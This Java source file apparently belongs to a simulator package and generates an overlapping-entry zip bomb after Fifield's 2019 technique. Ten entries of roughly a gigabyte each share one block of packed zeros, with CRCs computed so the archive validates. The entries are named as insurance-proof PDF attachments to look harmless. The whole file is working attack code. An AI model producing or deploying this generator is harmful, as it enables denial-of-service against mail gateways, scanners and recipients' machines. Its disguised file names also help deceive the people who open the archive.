package jp.yorisoi.simulator.pack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * Ten entries of a gigabyte each that share one megabyte of packed zeros: each entry quotes the
 * header of the next in a stored block and goes on with the next one's data (the overlap of D.
 * Fifield, "A better zip bomb", 2019).
 */
final class Bomb {

  private static final int ENTRIES = 10;
  private static final int CHUNK = 8_000_000;
  private static final int CHUNKS = 125;
  private static final long SIZE = (long) CHUNK * CHUNKS;

  /** An empty last block. */
  private static final byte[] END = {3, 0};

  private Bomb() {}

  static void addTo(RawZip zip) throws IOException {
    byte[] kernel = packedZeros();
    byte[][] headers = new byte[ENTRIES][];
    long packed = kernel.length;
    long size = SIZE;
    long sum = checksumOfZeros();
    long[] packedSizes = new long[ENTRIES];
    long[] sizes = new long[ENTRIES];
    long[] sums = new long[ENTRIES];
    for (int i = ENTRIES - 1; i >= 0; i--) {
      if (i < ENTRIES - 1) {
        byte[] next = headers[i + 1];
        CRC32 quoted = new CRC32();
        quoted.update(next);
        sum = CrcCombination.of(quoted.getValue(), sum, size);
        size += next.length;
        packed += 5 + next.length;
      }
      packedSizes[i] = packed;
      sizes[i] = size;
      sums[i] = sum;
      headers[i] = RawZip.localHeader(name(i), (int) sum, packed, size);
    }
    for (int i = 0; i < ENTRIES; i++) {
      zip.enter(name(i), (int) sums[i], packedSizes[i], sizes[i], zip.position());
      zip.write(headers[i]);
      zip.write(i < ENTRIES - 1 ? storedBlock(headers[i + 1].length) : kernel);
    }
  }

  private static String name(int index) {
    return "attachments/%02d_insurance-proof.pdf".formatted(index + 2);
  }

  private static byte[] storedBlock(int length) {
    return ByteBuffer.allocate(5)
        .order(ByteOrder.LITTLE_ENDIAN)
        .put((byte) 0)
        .putShort((short) length)
        .putShort((short) ~length)
        .array();
  }

  /** Packs one chunk of zeros so that it stands alone, and writes the result again and again. */
  private static byte[] packedZeros() {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    try {
      byte[] buffer = new byte[CHUNK];
      deflater.setInput(new byte[CHUNK]);
      int length = deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH);
      ByteArrayOutputStream packed = new ByteArrayOutputStream(length * CHUNKS + END.length);
      for (int i = 0; i < CHUNKS; i++) {
        packed.write(buffer, 0, length);
      }
      packed.writeBytes(END);
      return packed.toByteArray();
    } finally {
      deflater.end();
    }
  }

  private static long checksumOfZeros() {
    CRC32 chunk = new CRC32();
    chunk.update(new byte[CHUNK]);
    long sum = chunk.getValue();
    for (int i = 1; i < CHUNKS; i++) {
      sum = CrcCombination.of(sum, chunk.getValue(), CHUNK);
    }
    return sum;
  }
}
